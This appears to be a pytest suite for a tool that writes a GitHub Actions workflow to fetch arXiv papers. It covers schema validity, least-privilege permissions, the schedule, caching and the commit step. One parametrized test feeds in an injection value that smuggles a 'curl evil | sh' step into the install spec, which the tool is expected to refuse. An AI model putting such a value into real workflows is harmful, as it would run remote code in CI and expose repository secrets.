"""The GitHub Actions workflow `dailypapers init --github` writes: schema, schedule, steps."""

from __future__ import annotations

import os
import re
import shlex
import subprocess
from datetime import UTC, date, datetime, time, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from ruamel.yaml import YAML

from dailypapers import __version__
from dailypapers.arxiv.calendar import Calendar
from dailypapers.cli import cli
from dailypapers.config import ArxivSettings
from dailypapers.workflow import WORKFLOW_PATH, render_workflow
from helpers_notify import schema_check


def load(text: str) -> Any:
    return YAML(typ="safe").load(text)


def step(workflow: Any, name: str) -> dict[str, Any]:
    return next(s for s in workflow["jobs"]["update"]["steps"] if s.get("name") == name)


def test_every_workflow_variant_passes_the_schema(tmp_path: Path) -> None:
    paths = []
    for issues in (False, True):
        for shared in (False, True):
            path = tmp_path / f"issues-{issues}-{shared}.yml"
            text = render_workflow(issues=issues, install="dailypapers==0.1.0", shared=shared)
            path.write_text(text, "utf-8")
            paths.append(path)
    done = schema_check(*paths)
    assert done.returncode == 0, done.stdout + done.stderr


def test_the_schema_check_can_fail(tmp_path: Path) -> None:
    path = tmp_path / "broken.yml"
    path.write_text(render_workflow(issues=False).replace("contents: write", "contents: writ"))
    assert schema_check(path).returncode != 0


def test_least_privileges() -> None:
    plain = load(render_workflow(issues=False))
    github = load(render_workflow(issues=True))
    assert plain["permissions"] == {"contents": "write", "actions": "write"}
    assert github["permissions"] == {"contents": "write", "issues": "write", "actions": "write"}
    assert (
        "GITHUB_TOKEN"
        not in step(plain, "Fetch new papers, write the outputs, send notifications")["env"]
    )


def test_the_schedule_runs_after_every_announcement_of_the_year() -> None:
    """06:17 UTC Monday to Friday: past the index lag after each announcement (EDT or EST).

    A run within ``index_lag_hours`` of the announcement makes the next scan
    re-read a day of known papers (the lookback); an hour's margin over the
    default lag absorbs a late index and GitHub's start-up jitter.
    """
    cron = load(render_workflow(issues=False))["on"]["schedule"][0]["cron"]
    minute, hour, _, _, weekdays = cron.split()
    assert weekdays == "1-5"
    calendar, day = Calendar(), date(2026, 1, 1)
    lag = timedelta(hours=ArxivSettings().index_lag_hours)
    while day.year == 2026:
        if calendar.announces_on(day):
            announced = calendar.announcement_at(day).astimezone(UTC)
            run = datetime.combine(announced.date(), time(int(hour), int(minute)), UTC)
            assert run.isoweekday() in range(1, 6), day
            assert lag + timedelta(hours=1) <= run - announced <= timedelta(hours=8), day
        day += timedelta(days=1)
    assert int(minute) != 0  # GitHub delays runs scheduled on the hour


def test_steps_cache_update_commit_and_keep_alive() -> None:
    workflow = load(render_workflow(issues=True, install="git+https://example.org/dp.git"))
    steps = workflow["jobs"]["update"]["steps"]
    uses = [s.get("uses", s.get("name")) for s in steps]
    assert uses[:2] == ["actions/checkout@v7", "actions/setup-python@v7"]
    assert steps[1]["with"]["cache"] == "pip"
    assert step(workflow, "Install dailypapers")["run"].endswith(
        "pip install git+https://example.org/dp.git"
    )
    restore, save = (
        step(workflow, "Restore the paper store"),
        step(workflow, "Save the paper store"),
    )
    assert restore["with"]["key"] == save["with"]["key"]
    assert "${{ github.run_id }}" in save["with"]["key"]
    prefix = restore["with"]["restore-keys"].strip()
    assert save["with"]["key"].startswith(prefix) and save["with"]["key"] != prefix
    assert save["if"] == "${{ !cancelled() }}"
    update = step(workflow, "Fetch new papers, write the outputs, send notifications")
    assert update["run"] == "dailypapers update"
    assert set(update["env"]) == {
        "GITHUB_TOKEN",
        "DAILYPAPERS_SMTP_USER",
        "DAILYPAPERS_SMTP_PASSWORD",
        "DAILYPAPERS_WEBHOOK_URL",
        "DAILYPAPERS_FEISHU_URL",
        "DAILYPAPERS_FEISHU_SECRET",
        "DAILYPAPERS_TELEGRAM_TOKEN",
        "DAILYPAPERS_LLM_API_KEY",
        "DAILYPAPERS_EMBEDDINGS_KEY",
    }
    assert all(v.startswith("${{ secrets.") for v in update["env"].values())
    keep_alive = step(workflow, "Keep the schedule alive")
    assert "actions/workflows/${WORKFLOW}/enable" in keep_alive["run"]
    assert keep_alive["continue-on-error"] is True
    assert "workflow_dispatch" in workflow["on"]


def git(repo: Path, *args: str) -> str:
    env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}
    return subprocess.run(
        ["git", *args], cwd=repo, env=env, check=True, capture_output=True, text=True
    ).stdout


def run_commit_step(repo: Path, message: str) -> None:
    script = step(load(render_workflow(issues=False)), "Commit and push the changed outputs")
    env = {**os.environ, **script["env"], "MESSAGE": message, "GIT_CONFIG_GLOBAL": os.devnull}
    subprocess.run(["bash", "-e", "-c", script["run"]], cwd=repo, env=env, check=True)


def test_the_commit_step_commits_changed_outputs_only(tmp_path: Path) -> None:
    remote, repo = tmp_path / "remote.git", tmp_path / "repo"
    git(tmp_path, "init", "--quiet", "--bare", "-b", "main", str(remote))
    git(tmp_path, "clone", "--quiet", str(remote), str(repo))
    (repo / "README.md").write_text("old\n")
    git(repo, "add", "README.md")
    git(repo, "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-qm", "init")
    git(repo, "push", "-q", "origin", "HEAD:main")
    (repo / ".dailypapers").mkdir()
    (repo / ".dailypapers" / "papers.db").write_bytes(b"db")
    (repo / ".README.md.k3x9_q.tmp").write_text("| half a table")  # a killed render's
    (repo / "site").mkdir()
    (repo / "site" / ".index.html.a1.tmp").write_text("<html")
    run_commit_step(repo, "Daily papers 2026-08-21: 3 new")
    assert git(repo, "rev-list", "--count", "HEAD").strip() == "1"  # nothing changed
    (repo / "README.md").write_text("new\n")
    run_commit_step(repo, "Daily papers 2026-08-21: 3 new")
    log = git(remote, "log", "--format=%s|%an", "main").splitlines()
    assert log[0] == "Daily papers 2026-08-21: 3 new|github-actions[bot]"
    published = git(remote, "ls-tree", "-r", "--name-only", "main")
    assert ".dailypapers" not in published and ".tmp" not in published


def invoke(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stdout, result.stderr


def test_init_github_writes_both_files_and_never_overwrites(tmp_path: Path) -> None:
    code, out, _ = invoke("init", "--github")
    workflow = tmp_path / WORKFLOW_PATH
    assert code == 0 and "wrote papers.toml" in out and f"wrote {WORKFLOW_PATH}" in out
    assert schema_check(workflow).returncode == 0
    assert "issues: write" not in workflow.read_text()
    workflow.write_text("# mine\n")
    code, out, err = invoke("init", "--github")
    assert code == 0 and "--force" in out and workflow.read_text() == "# mine\n"
    assert f"kept {WORKFLOW_PATH}" in err
    (tmp_path / "papers.toml").unlink()
    code, out, err = invoke("init", "--github")
    assert code == 0 and "wrote papers.toml" in out and "kept" in err
    assert workflow.read_text() == "# mine\n"


def test_workflow_follows_notify_github(tmp_path: Path) -> None:
    invoke("init")
    with (tmp_path / "papers.toml").open("a") as handle:
        handle.write("\n[notify.github]\n")
    code, _, err = invoke("workflow")
    assert code == 0, err
    text = (tmp_path / WORKFLOW_PATH).read_text()
    assert re.search(r"^  issues: write", text, re.MULTILINE)
    assert invoke("workflow")[0] == 2
    code, _, _ = invoke("workflow", "--force", "--install", "dailypapers==9.9")
    assert code == 0 and "pip install dailypapers==9.9" in (tmp_path / WORKFLOW_PATH).read_text()


@pytest.mark.parametrize(
    "spec",
    [
        "",
        "a\nb",
        "dailypapers\r      - run: curl evil | sh",
        "\x1b[31mx",
        "a\u2028b",
    ],  # a \r: a step
)
def test_bad_install_specs_are_refused(spec: str) -> None:
    with pytest.raises(ValueError):
        render_workflow(issues=False, install=spec)


def test_workflow_without_a_config_or_with_a_broken_one_writes_nothing(tmp_path: Path) -> None:
    """Before, both wrote a workflow: one whose every run failed, and one that had
    silently lost `issues: write` to the config's typo."""
    code, _, err = invoke("workflow")
    assert code == 2 and err.count("\n") == 1 and "no config at" in err and "init --github" in err
    (tmp_path / "papers.toml").write_text(
        '[[topics]]\nname = "A"\nmax_paper = 5\n\n[notify.github]\n', encoding="utf-8"
    )
    code, _, err = invoke("workflow")
    assert code == 2 and "config error" in err and "max_paper" in err
    assert not (tmp_path / WORKFLOW_PATH).exists()


def test_init_github_beside_a_broken_config_says_so(tmp_path: Path) -> None:
    (tmp_path / "papers.toml").write_text('[[topics]]\nname = "A"\nmax_paper = 5\n')
    code, _, err = invoke("init", "--github")
    assert code == 0 and "note: " in err and "dailypapers workflow --force" in err
    assert (tmp_path / WORKFLOW_PATH).exists()


def test_a_store_kept_in_the_repository_is_cached_and_never_committed(tmp_path: Path) -> None:
    """`[store] url = "sqlite:///data/papers.db"`: before, the workflow cached only
    `.dailypapers` (every run started cold) and committed the database every day."""
    repo = tmp_path
    (repo / "papers.toml").write_text(
        '[[topics]]\nname = "A"\n\n[store]\nurl = "sqlite:///data/papers.db"\n', encoding="utf-8"
    )
    code, _, err = invoke("workflow")
    assert code == 0, err
    text = (repo / WORKFLOW_PATH).read_text()
    assert schema_check(repo / WORKFLOW_PATH).returncode == 0
    workflow = load(text)
    for name in ("Restore the paper store", "Save the paper store"):
        assert step(workflow, name)["with"]["path"].split() == [".dailypapers", "data/papers.db*"]
    git(repo, "init", "--quiet", "-b", "main")
    (repo / "data").mkdir()
    for name in ("papers.db", "papers.db-wal", "notes.md"):
        (repo / "data" / name).write_text("x")
    script = step(workflow, "Commit and push the changed outputs")["run"]
    add = next(line for line in script.splitlines() if line.startswith("git add"))
    subprocess.run(["bash", "-e", "-c", add], cwd=repo, check=True)
    staged = git(repo, "diff", "--cached", "--name-only").split()
    assert "data/notes.md" in staged and not any(n.startswith("data/papers.db") for n in staged)


def test_a_store_outside_the_folder_is_noted(tmp_path: Path) -> None:
    (tmp_path / "papers.toml").write_text(
        f'[[topics]]\nname = "A"\n\n[store]\nurl = "sqlite:///{tmp_path.parent}/x.db"\n'
    )
    code, _, err = invoke("workflow")
    assert code == 0 and "is outside this folder" in err and "starts cold" in err
    assert "x.db" not in (tmp_path / WORKFLOW_PATH).read_text()


@pytest.mark.parametrize("store", ["-x.db", "a'b.db", "a\nb.db"])
def test_a_store_path_the_workflow_cannot_quote_is_refused(store: str) -> None:
    with pytest.raises(ValueError, match="cannot be cached"):
        render_workflow(issues=False, store=store)


@pytest.mark.parametrize("store", ["data/my papers.db", "données/papiers-é.db", "a+b~/x.db"])
def test_a_store_path_with_spaces_or_accents_is_cached(tmp_path: Path, store: str) -> None:
    path = tmp_path / "daily-papers.yml"
    path.write_text(render_workflow(issues=False, store=store), encoding="utf-8")
    assert schema_check(path).returncode == 0
    workflow = load(path.read_text(encoding="utf-8"))
    cached = step(workflow, "Save the paper store")["with"]["path"].splitlines()
    assert cached == [".dailypapers", f"{store}*"]
    script = step(workflow, "Commit and push the changed outputs")["run"]
    assert f":(exclude,glob){store}*" in shlex.split(script.splitlines()[0])


def test_a_store_path_the_workflow_cannot_name_is_noted_not_refused(tmp_path: Path) -> None:
    (tmp_path / "papers.toml").write_text(
        '[[topics]]\nname = "A"\n\n[store]\nurl = "sqlite:///it\'s.db"\n', encoding="utf-8"
    )
    code, _, err = invoke("workflow")
    assert code == 0 and "is not cached" in err


def test_a_workflow_below_the_repository_s_root_is_noted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """GitHub never runs `sub/.github/workflows/...`: before, init said nothing."""
    git(tmp_path, "init", "--quiet")
    (tmp_path / "sub").mkdir()
    monkeypatch.chdir(tmp_path / "sub")
    code, _, err = invoke("init", "--github")
    assert code == 0 and "is below the repository's root" in err
    monkeypatch.chdir(tmp_path)
    code, _, err = invoke("init", "--github")
    assert code == 0 and "below the repository's root" not in err


def test_an_install_spec_of_several_requirements_installs_each() -> None:
    """`--install 'dailypapers==0.1.0 psycopg[binary]'` was quoted as one argument,
    which pip refuses in every run; each requirement is its own argument now."""
    workflow = load(render_workflow(issues=False, install="dailypapers==0.1.0 psycopg[binary]"))
    run = step(workflow, "Install dailypapers")["run"]
    assert run == "python -m pip install dailypapers==0.1.0 'psycopg[binary]'"
    assert shlex.split(run)[4:] == ["dailypapers==0.1.0", "psycopg[binary]"]


@pytest.mark.parametrize(
    "spec",
    [
        "dailypapers @ git+https://github.com/o/dailypapers",
        "dailypapers >= 1.2",
        "dailypapers>=1,<2; python_version>='3.11'",
        "/home/me/my checkout",
    ],
)
def test_one_requirement_with_spaces_stays_one_argument(spec: str) -> None:
    run = step(load(render_workflow(issues=False, install=spec)), "Install dailypapers")["run"]
    assert shlex.split(run)[4:] == [spec]


def test_a_postgresql_store_gets_its_driver_and_its_url_from_a_secret(tmp_path: Path) -> None:
    # The shared-deployment review: the workflow installed dailypapers without psycopg
    # ("No module named psycopg" every day) and passed no DAILYPAPERS_DB.
    (tmp_path / "papers.toml").write_text(
        '[[topics]]\nname = "A"\n\n[store]\nurl = "postgresql+psycopg://papers@db/dp"\n'
    )
    code, _, err = invoke("workflow")
    assert code == 0 and "repository secret DAILYPAPERS_DB" in err
    workflow = load((tmp_path / WORKFLOW_PATH).read_text())
    install = step(workflow, "Install dailypapers")["run"]
    assert install == f"python -m pip install 'dailypapers[postgres]=={__version__}'"
    env = step(workflow, "Fetch new papers, write the outputs, send notifications")["env"]
    assert env["DAILYPAPERS_DB"] == "${{ secrets.DAILYPAPERS_DB }}"
    sqlite = render_workflow(issues=False)
    assert "DAILYPAPERS_DB" not in sqlite and "[postgres]" not in sqlite


def test_a_postgresql_store_with_a_spec_of_one_s_own_gets_the_driver_too() -> None:
    # The second diff review: --install of one's own left psycopg out.
    from dailypapers.workflow import with_driver

    text = render_workflow(issues=False, install="dailypapers==0.0.9", shared=True)
    install = step(load(text), "Install dailypapers")["run"]
    assert install == "python -m pip install dailypapers==0.0.9 'psycopg[binary]>=3.1'"
    assert with_driver("dailypapers[postgres]==0.0.9") == "dailypapers[postgres]==0.0.9"
    assert with_driver("./dailypapers psycopg") == "./dailypapers psycopg"


class _Distribution:
    def __init__(self, record: str | None) -> None:
        self.record = record

    def read_text(self, name: str) -> str | None:
        assert name == "direct_url.json"
        return self.record


@pytest.mark.parametrize(
    ("record", "source"),
    [
        (None, None),  # a release from an index: no direct_url.json
        (
            '{"url": "file:///src/dailypapers", "dir_info": {"editable": true}}',
            "file:///src/dailypapers",
        ),
        (
            '{"url": "https://github.com/me/dailypapers", '
            '"vcs_info": {"vcs": "git", "commit_id": "abc123"}}',
            "git+https://github.com/me/dailypapers@abc123",
        ),
        ("not json", None),
        ('["a list"]', None),
    ],
)
def test_where_this_dailypapers_was_installed_from(
    monkeypatch: pytest.MonkeyPatch, record: str | None, source: str | None
) -> None:
    from importlib import metadata

    from dailypapers import workflow

    monkeypatch.setattr(metadata, "distribution", lambda name: _Distribution(record))
    assert workflow.installed_from() == source


def test_a_workflow_for_a_dailypapers_not_from_pypi_says_how_to_install_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Before: `init --github` from a clone wrote `pip install dailypapers==X` without a
    # word, and every Actions run failed at its install step (no such release).
    from dailypapers import workflow

    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(
        workflow, "installed_from", lambda: "git+https://github.com/me/dailypapers@abc123"
    )
    result = CliRunner().invoke(cli, ["init", "--github"])
    assert result.exit_code == 0, result.output
    assert (
        "note: this dailypapers was installed from git+https://github.com/me/dailypapers@abc123"
        in result.stderr
    )
    assert "--install 'dailypapers @ git+https://github.com/me/dailypapers@abc123'" in result.stderr
    again = CliRunner().invoke(
        cli,
        [
            "workflow",
            "--force",
            "--install",
            "dailypapers @ git+https://github.com/me/dailypapers@abc123",
        ],
    )
    assert again.exit_code == 0 and "note: this dailypapers" not in again.stderr
    monkeypatch.setattr(workflow, "installed_from", lambda: None)
    release = CliRunner().invoke(cli, ["workflow", "--force"])
    assert release.exit_code == 0 and "note:" not in release.stderr
